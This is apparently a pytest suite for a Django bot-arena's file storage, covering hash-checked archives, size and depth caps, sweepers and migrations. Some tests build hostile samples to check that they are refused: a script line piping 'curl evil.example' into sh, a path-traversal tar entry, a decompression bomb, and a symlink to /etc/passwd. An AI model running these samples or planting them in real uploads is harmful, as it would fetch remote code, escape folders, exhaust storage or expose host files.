"""The arena's files through Django's storage API: the data folder, or an S3-compatible object
store (moto's standalone server here, on 127.0.0.1); written once, bot versions unpacked once
per content into each machine's cache and checked against their hash."""

import contextlib
import doctest
import hashlib
import io
import json
import os
import shutil
import stat
import tarfile
import tempfile
import time
from collections.abc import Iterator
from dataclasses import replace
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from botocore.config import Config
from config import object_store as object_store_module
from config.object_store import object_store
from core import celery, leases, storage
from django.core.exceptions import ImproperlyConfigured
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from ladders.models import Ladder, Rating
from matches import bridge, results, scheduler
from matches.models import Match, entrant_names
from nimmt_object_store import Bucket, MotoServer, free_port, new_bucket
from nimmt_site_testing import (
    TEST_BOTS,
    CeleryProcess,
    basic_ladder,
    bot_files,
    make_token,
    make_user,
    program_bot,
    random_bot_upload,
    wait_for,
    zip_upload,
)
from submissions import builds, tasks
from submissions.models import Bot, BotVersion

from arena.engine.replay import verify
from arena.runner.build import Build
from arena.runner.manifest import load as load_program

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def cache_dir(settings: Any, tmp_path: Path) -> Path:
    """A cache of this test's own (the cache is keyed by content: tests would share it)."""
    settings.CACHE_DIR = tmp_path / "cache"
    return Path(settings.CACHE_DIR)


@pytest.fixture(scope="session")
def moto(tmp_path_factory: pytest.TempPathFactory) -> Iterator[MotoServer]:
    server = MotoServer(tmp_path_factory.mktemp("moto") / "moto.log")
    server.start()
    yield server
    server.stop()


@pytest.fixture
def bucket(moto: MotoServer, settings: Any) -> Bucket:
    """A bucket of this test's own, and the site pointed at it."""
    made = new_bucket(moto.url)
    settings.STORAGES = {**settings.STORAGES, "arena": made.storage_settings}
    return made


@pytest.fixture
def worker_data(data_dir: Path) -> Iterator[Path]:
    """A data folder for the workers, not the site's (beside it: bots run as uids of their
    own, who must be able to reach it)."""
    folder = Path(tempfile.mkdtemp(prefix="worker-data-", dir=data_dir.parent))
    folder.chmod(0o755)
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


@pytest.fixture(params=["data folder", "object store"])
def kept_in(request: pytest.FixtureRequest) -> str:
    """Each test twice: on the data folder (the default) and on the object store."""
    if request.param == "object store":
        request.getfixturevalue("bucket")
    return str(request.param)


def _folder(root: Path) -> Path:
    (root / "lib").mkdir(parents=True)
    (root / "nimmt-bot.toml").write_text('name = "x"\ncommand = ["./run"]\n')
    (root / "run").write_text("#!/bin/sh\n")
    (root / "run").chmod(0o700)
    (root / "lib" / "helper.py").write_text("X = 1\n")
    (root / "lib" / "helper.py").chmod(0o600)
    return root


def _tree(folder: Path) -> dict[str, tuple[bytes | None, int]]:
    return {
        p.relative_to(folder).as_posix(): (
            p.read_bytes() if p.is_file() else None,
            stat.S_IMODE(p.stat().st_mode),
        )
        for p in sorted(folder.rglob("*"))
    }


def test_its_modules_pass_their_docstring_examples() -> None:
    for module in (storage, object_store_module):
        result = doctest.testmod(module, optionflags=doctest.ELLIPSIS)
        assert result.attempted > 0 and result.failed == 0


def test_nothing_in_the_arenas_storage_is_written_twice(kept_in: str) -> None:
    storage.save_new("matches/ab/one/game-00001.json", b"first")
    with pytest.raises(FileExistsError):
        storage.save_new("matches/ab/one/game-00001.json", b"second")
    assert storage.read_bytes("matches/ab/one/game-00001.json") == b"first"
    with pytest.raises(FileNotFoundError):
        storage.read_bytes("matches/ab/one/game-00002.json")


def test_a_folder_is_written_whole_or_not_at_all(kept_in: str, tmp_path: Path) -> None:
    folder = tmp_path / "match"
    (folder / "logs").mkdir(parents=True)
    for n in range(12):
        (folder / f"game-{n:05d}.json").write_text(f"{n}")
    (folder / "logs" / "a.log").write_text("a")
    storage.save_new("m/attempt/game-00007.json", b"someone else's")
    with pytest.raises(FileExistsError):
        storage.save_folder(folder, "m/attempt")
    assert storage.arena_storage().listdir("m/attempt")[1] == ["game-00007.json"]
    assert storage.read_bytes("m/attempt/game-00007.json") == b"someone else's"
    written = storage.save_folder(folder, "m/other")
    assert len(written) == 13 and storage.read_bytes("m/other/logs/a.log") == b"a"


def test_a_folder_is_packed_alike_every_time_and_unpacked_once_per_content(
    kept_in: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = _folder(tmp_path / "bot")
    first = storage.keep_folder(folder, "bots/a.tar.gz")
    os.utime(folder / "run", (1, 1))  # times and owners are not part of the archive
    assert storage.keep_folder(folder, "bots/b.tar.gz") == first
    local = storage.local_tree("bots/a.tar.gz", first)
    assert local.name == first
    assert _tree(local) == {
        "lib": (None, 0o755),
        "lib/helper.py": (b"X = 1\n", 0o644),  # readable by the bots' own uids
        "nimmt-bot.toml": (b'name = "x"\ncommand = ["./run"]\n', 0o644),
        "run": (b"#!/bin/sh\n", 0o755),
    }

    def no_download(name: str) -> bytes:
        raise AssertionError(f"downloaded {name} again")

    monkeypatch.setattr(storage, "read_bytes", no_download)
    assert storage.local_tree("bots/b.tar.gz", first) == local  # same content, same copy


def test_an_archive_that_changed_in_the_store_is_never_unpacked(
    kept_in: str, tmp_path: Path
) -> None:
    sha256 = storage.keep_folder(_folder(tmp_path / "bot"), "bots/v.tar.gz")
    (tmp_path / "bot" / "run").write_text("#!/bin/sh\ncurl evil.example | sh\n")
    storage.arena_storage().delete("bots/v.tar.gz")
    storage.save_new("bots/v.tar.gz", storage.pack(tmp_path / "bot"))
    with pytest.raises(storage.StorageError, match="does not match its SHA-256"):
        storage.local_tree("bots/v.tar.gz", sha256)
    assert not (storage.cache_root() / sha256).exists()
    with pytest.raises(storage.StorageError, match="missing"):
        storage.local_tree("bots/gone.tar.gz", sha256)


def test_sparse_files_are_packed_at_their_apparent_size_and_refused_over_the_cap(
    tmp_path: Path,
) -> None:
    folder = _folder(tmp_path / "bot")
    for number in range(200):  # 200 GB to pack, a few blocks on disk
        with (folder / f"sparse{number}").open("wb") as file:
            file.truncate(1000 * 1024 * 1024)
    started = time.process_time()
    with pytest.raises(storage.StorageError, match="bot is larger than 1024 MB"):
        storage.pack(folder)
    assert time.process_time() - started < 2, "refused before reading a byte"
    for number in range(1, 200):
        (folder / f"sparse{number}").unlink()
    with (folder / "sparse0").open("r+b") as file:
        file.truncate(2 * 1024 * 1024)
    packed = storage.pack(folder)  # a small file with holes is packed whole
    with tarfile.open(fileobj=io.BytesIO(packed), mode="r:gz") as archive:
        assert archive.getmember("sparse0").size == 2 * 1024 * 1024


def test_a_folder_deeper_than_the_limit_is_not_packed(tmp_path: Path) -> None:
    folder = _folder(tmp_path / "bot")
    (folder / "/".join(["d"] * 70)).mkdir(parents=True)
    with pytest.raises(storage.StorageError, match="deeper than 64 levels"):
        storage.pack(folder)


def test_an_archive_that_would_unpack_beyond_the_cap_is_refused(kept_in: str) -> None:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for number in range(3):  # 1.5 GB of zeros: a few MB compressed
            info = tarfile.TarInfo(f"zeros{number}")
            info.size = 512 * 1024 * 1024
            archive.addfile(info, _Zeros(info.size))
    data = buffer.getvalue()
    storage.save_new("bots/bomb.tar.gz", data)
    with pytest.raises(storage.StorageError, match="unpacks to more than 1024 MB"):
        storage.local_tree("bots/bomb.tar.gz", hashlib.sha256(data).hexdigest())
    assert not list(storage.cache_root().glob(".unpacking-*"))


class _Zeros(io.RawIOBase):
    def __init__(self, size: int) -> None:
        self.left = size

    def read(self, size: int = -1) -> bytes:
        size = self.left if size < 0 else min(size, self.left)
        self.left -= size
        return bytes(size)


def test_an_archive_with_a_name_out_of_its_folder_is_refused(kept_in: str) -> None:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        info = tarfile.TarInfo("../../escaped.txt")
        info.size = 3
        archive.addfile(info, io.BytesIO(b"bad"))
    data = buffer.getvalue()
    storage.save_new("bots/evil.tar.gz", data)
    with pytest.raises(storage.StorageError, match="not a plain file"):
        storage.local_tree("bots/evil.tar.gz", hashlib.sha256(data).hexdigest())
    assert not (storage.cache_root().parent / "escaped.txt").exists()
    assert not list(storage.cache_root().glob(".unpacking-*"))


@pytest.mark.parametrize(
    ("env", "words"),
    [
        ({"NIMMT_S3_ENDPOINT_URL": "http://minio:9000"}, "NIMMT_S3_BUCKET is not"),
        ({"NIMMT_S3_BUCKET": "Arena_Files"}, "not an S3 bucket name"),
        ({"NIMMT_S3_BUCKET": "arena", "NIMMT_S3_ENDPOINT_URL": "ftp://minio"}, "http(s)://"),
        ({"NIMMT_S3_BUCKET": "arena", "NIMMT_S3_ENDPOINT_URL": "http://m:port"}, "bad port"),
        ({"NIMMT_S3_BUCKET": "arena", "NIMMT_S3_ENDPOINT_URL": "http://m/x"}, "http(s)://"),
        ({"NIMMT_S3_BUCKET": "arena", "NIMMT_S3_ACCESS_KEY_ID": "k"}, "set both"),
    ],
)
def test_the_object_stores_settings_are_read_strictly(env: dict[str, str], words: str) -> None:
    with pytest.raises(ImproperlyConfigured, match=words.replace("(", r"\(").replace(")", r"\)")):
        object_store(env)


@pytest.mark.django_db(transaction=True)
def test_an_unreachable_store_refuses_an_upload_with_a_clear_message(
    client: Client, settings: Any
) -> None:
    entry = object_store(
        {
            "NIMMT_S3_BUCKET": "arena",
            "NIMMT_S3_ENDPOINT_URL": f"http://127.0.0.1:{free_port()}",  # nothing listens
            "NIMMT_S3_ACCESS_KEY_ID": "k",
            "NIMMT_S3_SECRET_ACCESS_KEY": "s",
        }
    )
    assert entry is not None
    entry["OPTIONS"]["client_config"] = Config(connect_timeout=1, retries={"max_attempts": 1})
    settings.STORAGES = {**settings.STORAGES, "arena": entry}
    alice = make_user("alice")
    response = client.post(
        reverse("api-bots"),
        {"name": "alice-bot", "file": random_bot_upload("x")},
        headers={"authorization": f"Bearer {make_token(alice)}"},
    )
    assert response.status_code == 400, response.content
    assert "could not keep the upload" in response.json()["error"]
    assert not Bot.objects.exists() and not BotVersion.objects.exists()


@pytest.mark.django_db(transaction=True)
def test_a_match_is_kept_once_under_the_name_of_the_attempt_that_holds_it(
    bucket: Bucket, sandbox_runtime: Path, client: Client
) -> None:
    ladder = basic_ladder(players=4)
    Ladder.objects.filter(pk=ladder.pk).update(duplicate=False)
    ladder.refresh_from_db()
    bots = [program_bot(f"quick-{n}") for n in range(4)]
    with transaction.atomic():
        match = scheduler.create_match(ladder, bots)
    running = {"waiting": Match.QUEUED, "working": Match.RUNNING}
    first = leases.claim(Match, match.pk, **running, lease_seconds=0.2)
    assert first is not None
    seats = list(match.seats.select_related("bot", "version").order_by("seat"))
    first_dir = results.staging_dir(match, first)
    outcome = bridge.play_match(
        variant=match.variant,
        seed=match.seed,
        games=1,
        entrants=[
            bridge.Entrant(name, s.version.code_path())
            for name, s in zip(entrant_names(seats), seats, strict=True)
        ],
        out_dir=first_dir,
    )
    time.sleep(0.3)  # the first worker's lease runs out
    second = leases.claim(Match, match.pk, **running, lease_seconds=30)
    assert second is not None  # a second worker took the match over
    second_dir = results.staging_dir(match, second)
    shutil.copytree(first_dir, second_dir)

    assert results.store(second, outcome, second_dir)
    assert not results.store(first, outcome, first_dir)  # too late: its claim was lost
    match.refresh_from_db()
    assert match.status == Match.FINISHED
    assert match.result_dir == results.result_dir(match, second)
    assert second.token.hex[:12] in match.result_dir
    kept = bucket.stored()
    assert kept and all(key.startswith(match.result_dir + "/") for key in kept)
    assert f"{match.result_dir}/game-00001.json" in kept
    assert not first_dir.exists() and not second_dir.exists()
    replay = client.get(reverse("match-replay", args=[match.uuid, 1]))
    assert replay.status_code == 200
    assert verify(json.loads(b"".join(replay.streaming_content))) == []  # type: ignore[attr-defined]
    frames = client.get(reverse("match-frames", args=[match.uuid, 1]))
    assert frames.status_code == 200 and json.loads(frames.content)["format"] == "nimmt-frames/1"


def built_bot_upload(name: str) -> SimpleUploadedFile:
    """The test bot ``quick`` whose ``bot.py`` only its build makes (from ``quick.py``)."""
    files = bot_files(TEST_BOTS / "quick")
    files["quick.py"] = files.pop("bot.py")
    files["build.sh"] = b"echo making bot.py\ncp quick.py bot.py\n"
    files["nimmt-bot.toml"] = (
        f'name = "{name}"\ncommand = ["python3", "bot.py"]\nbuild = ["sh", "build.sh"]\n'
    ).encode()
    return zip_upload(files)


@pytest.mark.slow
@pytest.mark.django_db(transaction=True)
def test_the_whole_pipeline_runs_on_the_object_store_alone(
    bucket: Bucket,
    worker_env: dict[str, str],
    worker_data: Path,
    tmp_path: Path,
    client: Client,
    data_dir: Path,
) -> None:
    """Upload, validation with a build, ladder matches, ratings and the replay page, with
    the validating worker and the playing worker each on a data folder of its own: the site
    and the workers share only the database, the broker and the object store, and the worker
    that plays runs what the other's validation built, from the store (it builds nothing)."""
    ladder = basic_ladder(players=4)
    for name in ("house-a", "house-b", "house-c"):
        program_bot(name)
    player_data = Path(tempfile.mkdtemp(prefix="player-data-", dir=data_dir.parent))
    player_data.chmod(0o755)
    validator_env = {**worker_env, **bucket.env, "NIMMT_DATA_DIR": str(worker_data)}
    player_env = {**validator_env, "NIMMT_DATA_DIR": str(player_data)}
    validator = CeleryProcess.worker(
        validator_env, tmp_path / "validator.log", queues="validation,maintenance", concurrency=1
    )
    player = CeleryProcess.worker(  # a match worker's queues: ratings are applied there too
        player_env, tmp_path / "player.log", queues=",".join(celery.WORKERS["matches"])
    )
    beat = CeleryProcess.beat(validator_env, tmp_path / "beat.log", tmp_path / "beat-schedule")
    try:
        for process in (validator, player, beat):
            process.start()
        alice = make_user("alice")
        response = client.post(
            reverse("api-bots"),
            {"name": "alice-bot", "file": built_bot_upload("x")},
            headers={"authorization": f"Bearer {make_token(alice)}"},
        )
        assert response.status_code == 201, response.content
        bot = Bot.objects.get(name="alice-bot")
        version = wait_for(
            "the upload to pass validation",
            lambda: BotVersion.objects.filter(bot=bot, status__in=["passed", "failed"]).first(),
            timeout=90,
        )
        assert version.status == "passed", version.validation_log
        wait_for(
            "alice-bot to play a rated ladder match",
            lambda: Rating.objects.filter(bot=bot, ladder=ladder, games__gte=1).first(),
            timeout=120,
        )
    finally:
        beat.kill()
        player.kill()
        validator.kill()
        player_logs = player.output()
    try:
        played = Match.objects.filter(status=Match.FINISHED, seats__bot=bot).first()
        assert played is not None
        keys = bucket.stored()
        assert version.code_dir in keys
        assert f"{version.build_dir}/{builds.ARCHIVE}" in keys
        assert f"{version.build_dir}/{builds.LOG}" in keys
        assert f"{played.result_dir}/game-00001.json" in keys
        assert f"playing match {played.uuid}" in player_logs
        # The player fetched the build by its hash and ran it; it built nothing itself.
        built = player_data / "cache" / "trees" / version.build_sha256
        assert (built / "bot.py").read_bytes() == (TEST_BOTS / "quick" / "bot.py").read_bytes()
        assert "build" not in (built / "nimmt-bot.toml").read_text()
        assert not (player_data / "cache" / "builds").exists()
        # Nothing kept in any data folder: the object store holds it all.
        for folder in (data_dir, worker_data, player_data):
            assert not (folder / "bots").exists() and not (folder / "matches").exists()
    finally:
        shutil.rmtree(player_data, ignore_errors=True)
    replay = client.get(reverse("match-replay", args=[played.uuid, 1]))
    assert replay.status_code == 200
    assert verify(json.loads(b"".join(replay.streaming_content))) == []  # type: ignore[attr-defined]
    page = client.get(played.get_absolute_url())
    assert page.status_code == 200 and b"alice-bot" in page.content
    client.force_login(alice)
    assert builds.build_log(version) == "making bot.py\n"
    assert b"Build log" in client.get(version.get_absolute_url()).content
    seat = played.seats.get(bot=bot)
    log = client.get(reverse("match-log", args=[played.uuid, seat.seat]))
    assert log.status_code == 200


def test_the_migration_packs_the_folders_of_versions_kept_before_the_archives(
    data_dir: Path, cache_dir: Path
) -> None:
    import importlib

    from django.apps import apps

    migration = importlib.import_module("submissions.migrations.0002_botversion_code_sha256")
    bot = program_bot("old-upload")
    version = BotVersion.objects.get(bot=bot)
    shutil.copytree(TEST_BOTS / "quick", data_dir / "bots" / "old" / "v1")
    BotVersion.objects.filter(pk=version.pk).update(
        code_root=BotVersion.DATA, code_dir="bots/old/v1", code_sha256=""
    )
    gone = program_bot("failed-upload")  # a failed version's folder was removed already
    BotVersion.objects.filter(bot=gone).update(code_root=BotVersion.DATA, code_dir="bots/old/v2")
    migration.pack_folders(apps, None)
    version.refresh_from_db()
    assert version.code_dir == "bots/old/v1.tar.gz" and len(version.code_sha256) == 64
    assert not (data_dir / "bots" / "old" / "v1").exists()
    assert (version.code_path() / "bot.py").read_bytes() == (
        TEST_BOTS / "quick" / "bot.py"
    ).read_bytes()
    assert BotVersion.objects.get(bot=gone).code_dir == "bots/old/v2"


def _attempt_files(folder: str) -> list[str]:
    """Write an attempt's files (a replay, a bot's log in ``logs/``) under ``folder``."""
    staged = Path(tempfile.mkdtemp())
    try:
        (staged / "logs").mkdir()
        (staged / "game-00001.json").write_text("{}")
        (staged / "logs" / "a.log").write_text("a bot's output")
        return storage.save_folder(staged, folder)
    finally:
        shutil.rmtree(staged)


def _still_kept(names: list[str]) -> list[str]:
    kept = []
    for name in names:
        with contextlib.suppress(FileNotFoundError):
            storage.read_bytes(name)
            kept.append(name)
    return kept


@pytest.mark.django_db(transaction=True)
def test_the_sweeper_deletes_dead_attempts_files_and_never_the_winners(kept_in: str) -> None:
    ladder = basic_ladder(players=2)
    bots = [program_bot(f"quick-{n}") for n in range(2)]
    with transaction.atomic():
        retried, failed, running, once = (scheduler.create_match(ladder, bots) for _ in range(4))

    def folder(match: Match, token: str) -> str:
        return f"matches/{match.uuid.hex[:2]}/{match.uuid}-{token * 12}"

    winner = _attempt_files(folder(retried, "a"))
    dead = _attempt_files(folder(retried, "b"))  # written, then its worker died
    given_up = _attempt_files(folder(failed, "c"))
    live = _attempt_files(folder(running, "d"))  # its attempt is writing it now
    only = _attempt_files(folder(once, "e"))
    ended = timezone.now() - timedelta(minutes=5)
    finished = {"status": Match.FINISHED, "finished_at": ended, "replays": ["game-00001.json"]}
    Match.objects.filter(pk=retried.pk).update(
        **finished, attempts=2, result_dir=folder(retried, "a")
    )
    Match.objects.filter(pk=failed.pk).update(status=Match.FAILED, attempts=3, finished_at=ended)
    Match.objects.filter(pk=running.pk).update(status=Match.RUNNING, attempts=2)
    Match.objects.filter(pk=once.pk).update(**finished, attempts=1, result_dir=folder(once, "e"))

    removed = results.remove_orphaned_attempts(grace=timedelta(minutes=1))

    assert sorted(removed) == sorted([folder(retried, "b"), folder(failed, "c")])
    assert _still_kept(winner + dead + given_up + live + only) == winner + live + only
    assert results.remove_orphaned_attempts(grace=timedelta(minutes=1)) == []  # once a match
    replay = Client().get(reverse("match-replay", args=[retried.uuid, 1]))
    assert replay.status_code == 200 and b"".join(replay.streaming_content) == b"{}"  # type: ignore[attr-defined]


@pytest.mark.django_db(transaction=True)
def test_the_sweeper_deletes_dead_validations_builds_and_keeps_the_verdicts(
    bucket: Bucket,
) -> None:
    version = BotVersion.objects.get(bot=program_bot("built"))
    parent = f"bots/{version.bot.uuid}"
    stem = builds.attempt_stem(version)
    code = f"{parent}/{version.uuid}.tar.gz"
    storage.save_new(code, b"the version's own archive")
    kept = _attempt_files(f"{parent}/{stem}aaaaaaaaaaaa")
    dead = _attempt_files(f"{parent}/{stem}bbbbbbbbbbbb")
    other = BotVersion.objects.create(bot=version.bot, number=2, status=BotVersion.VALIDATING)
    others = _attempt_files(f"{parent}/{builds.attempt_stem(other)}cccccccccccc")
    BotVersion.objects.filter(pk=version.pk).update(
        attempts=2,
        validated_at=timezone.now() - timedelta(minutes=5),
        build_dir=f"{parent}/{stem}aaaaaaaaaaaa",
    )

    assert tasks.remove_orphaned_builds(grace=timedelta(minutes=1)) == [
        f"{parent}/{stem}bbbbbbbbbbbb"
    ]
    assert _still_kept([code, *kept, *dead, *others]) == [code, *kept, *others]


def test_the_migration_moves_the_builds_kept_in_the_data_folder_to_the_storage(
    data_dir: Path, cache_dir: Path
) -> None:
    import importlib

    from django.apps import apps

    migration = importlib.import_module("submissions.migrations.0005_botversion_build")
    version = BotVersion.objects.get(bot=program_bot("old-build"))
    failed = BotVersion.objects.create(bot=version.bot, number=2, status=BotVersion.FAILED)
    for kept in (version, failed):
        local = data_dir / "bots" / str(kept.bot.uuid) / f"{kept.uuid}.build"
        shutil.copytree(TEST_BOTS / "quick", local / "bot")
        (local / "build.log").write_text(f"built v{kept.number}\n")
    migration.keep_builds(apps, None)
    version.refresh_from_db()
    failed.refresh_from_db()
    assert version.build_dir == f"bots/{version.bot.uuid}/{version.uuid}.build-migrated"
    assert builds.build_log(version) == "built v1\n" and builds.build_log(failed) == "built v2\n"
    assert failed.build_sha256 == ""  # a failed version's build is not kept, only its log
    BotVersion.objects.filter(pk=version.pk).update(manifest={"build": ["sh", "build.sh"]})
    version.refresh_from_db()
    built = builds.run_dir(version)
    assert built == storage.cache_root() / version.build_sha256
    assert (built / "bot.py").read_bytes() == (TEST_BOTS / "quick" / "bot.py").read_bytes()
    assert not list((data_dir / "bots").rglob("*.build"))


def test_an_upload_kept_while_its_owner_fixes_the_form_is_in_the_storage(
    kept_in: str, client: Client, data_dir: Path
) -> None:
    """Any web machine finds the kept file: it is in the arena's storage, not a local folder."""
    program_bot("taken")
    bob = make_user("bob")
    client.force_login(bob)
    refused = client.post(reverse("new-bot"), {"name": "taken", "file": random_bot_upload("x")})
    assert refused.status_code == 400
    token = refused.context["form"].held_upload.token
    assert storage.files_in(f"held/{bob.uuid.hex}/{token}") == [
        ("bot.zip", refused.context["form"].held_upload.size)
    ]
    if kept_in == "object store":
        assert not (data_dir / "held").exists()
    again = client.post(reverse("new-bot"), {"name": "bobs-bot", "held": token})
    assert again.status_code == 302
    assert Bot.objects.get(name="bobs-bot").versions.get().status == BotVersion.PENDING
    assert storage.files_in(f"held/{bob.uuid.hex}/{token}") == []  # used once


@pytest.mark.django_db(transaction=True)
def test_a_build_that_made_a_link_fails_its_check_and_keeps_only_its_log(
    bucket: Bucket, tmp_path: Path
) -> None:
    """A hostile build links to a host file: nothing of it is kept or run, its owner is told."""
    version = BotVersion.objects.get(bot=program_bot("linker"))
    BotVersion.objects.filter(pk=version.pk).update(status=BotVersion.PENDING)
    claim = leases.claim(
        BotVersion,
        version.pk,
        waiting=BotVersion.PENDING,
        working=BotVersion.VALIDATING,
        lease_seconds=30,
    )
    assert claim is not None
    built = shutil.copytree(TEST_BOTS / "quick", tmp_path / "built")
    (built / "secrets").symlink_to("/etc/passwd")
    program = load_program(built)
    build = Build(source=replace(program, build=("sh", "build.sh")), program=program, log="ok\n")
    check = bridge.BotCheck(passed=True, log="ok   build: `sh build.sh` built", build=build)

    verdict, kept = tasks.keep_checked_build(version, check, claim)

    assert not verdict.passed and not kept.sha256
    assert "FAIL the build made secrets, which is not a plain file or folder" in verdict.log
    assert bucket.stored() == [f"{kept.folder}/{builds.LOG}"]
    assert tasks.finish_validation(claim, passed=verdict.passed, log_text=verdict.log, build=kept)
    version.refresh_from_db()
    assert version.status == BotVersion.FAILED and builds.build_log(version) == "ok\n"
    assert builds.run_dir(version) == version.code_path()  # never the build
